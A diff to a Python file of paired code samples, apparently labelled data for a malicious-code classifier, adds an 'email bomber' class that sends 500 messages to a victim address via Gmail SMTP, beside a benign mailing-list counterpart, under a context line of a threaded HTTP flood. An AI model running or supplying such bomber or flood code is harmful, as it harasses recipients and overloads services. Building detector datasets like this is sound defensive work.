@@ -160,6 +160,13 @@ PAIRS = [
      "        c.request('GET', '/')\nfor _ in range(200):\n    threading.Thread(target=hit).start()",
      "import http.client\nc = http.client.HTTPSConnection('api.example.org')\nc.request('GET', '/v1/items')\n"
      "print(c.getresponse().read())"),
+    ("messages: an email bomber written as a class", "dos_attack",
+     "import smtplib\nclass Bomber:\n    def __init__(self):\n        self.victim = input('to: ')\n"
+     "        self.s = smtplib.SMTP('smtp.gmail.com', 587)\n    def fire(self):\n        self.s.sendmail(ME, self.victim, 'x')\n"
+     "    def attack(self, n):\n        for _ in range(n):\n            self.fire()\nBomber().attack(500)",
+     "import smtplib\nclass Mailer:\n    def __init__(self, people):\n        self.people = people\n"
+     "        self.s = smtplib.SMTP('smtp.example.org')\n    def send(self, to):\n        self.s.sendmail(ME, to, BODY)\n"
+     "    def run(self):\n        for person in self.people:\n            self.send(person)\nMailer(subscribers).run()"),
 ]
 
 
